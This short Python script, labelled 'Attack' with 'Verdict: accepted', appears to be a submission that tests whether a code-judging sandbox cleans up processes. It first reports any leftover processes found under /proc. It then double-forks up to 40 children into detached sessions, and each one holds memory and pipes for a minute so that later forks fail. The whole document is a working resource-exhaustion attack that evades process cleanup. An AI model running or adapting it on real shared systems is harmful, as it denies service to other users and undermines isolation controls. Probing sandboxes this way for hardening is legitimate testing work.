# Attack: leaves children in sessions of their own that hold memory, processes and pipes, for the next fork to find no room.
# Verdict: accepted
import os, time

number = input()
others = [name for name in os.listdir('/proc') if name.isdigit() and int(name) not in (1, os.getpid())]
print('unharmed' if not others else f'{others} are still there', number, flush=True)
for _ in range(40):
    try:
        if os.fork():
            continue
    except OSError:
        break
    os.setsid()
    if os.fork():
        os._exit(0)
    try:
        block = bytearray(1 << 20)
        pipes = [os.pipe() for _ in range(20)]
    except (OSError, MemoryError):
        pass
    time.sleep(60)
os._exit(0)
